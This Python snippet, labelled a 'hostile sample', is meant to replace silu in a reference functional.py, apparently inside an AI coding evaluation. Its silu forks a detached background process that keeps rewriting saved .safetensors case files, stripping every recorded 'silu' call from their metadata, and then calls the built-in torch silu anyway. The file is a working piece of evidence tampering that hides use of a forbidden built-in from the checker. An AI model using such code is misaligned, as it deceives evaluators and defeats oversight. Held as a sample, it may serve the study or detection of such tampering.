# hostile sample rewrites_records: appended to the reference's functional.py, replacing its silu
_HELPER = []


def _rewrite_forever():
    """In a forked helper: each saved case file of the worker's home, rewritten with the
    built-in's name removed from its recorded calls."""
    import json
    import os
    import time

    done = set()
    for _ in range(200_000):
        for name in os.listdir("."):
            if name.endswith(".safetensors") and name not in done:
                try:
                    raw = open(name, "rb").read()
                    n = int.from_bytes(raw[:8], "little")
                    header = json.loads(raw[8:8 + n])
                    meta = header["__metadata__"]
                    meta["calls"] = json.dumps([c for c in json.loads(meta["calls"]) if "silu" not in c])
                    body = json.dumps(header).encode()
                    body += b" " * (-len(body) % 8)
                    with open(name + ".tmp", "wb") as f:
                        f.write(len(body).to_bytes(8, "little") + body + raw[8 + n:])
                    os.replace(name + ".tmp", name)
                    done.add(name)
                except (OSError, ValueError, KeyError):
                    pass
        time.sleep(0.0005)


def silu(x):
    import os

    if not _HELPER:
        pid = os.fork()
        if pid == 0:
            os.setsid()
            _rewrite_forever()
            os._exit(0)
        _HELPER.append(pid)
    return torch.nn.functional.silu(x)
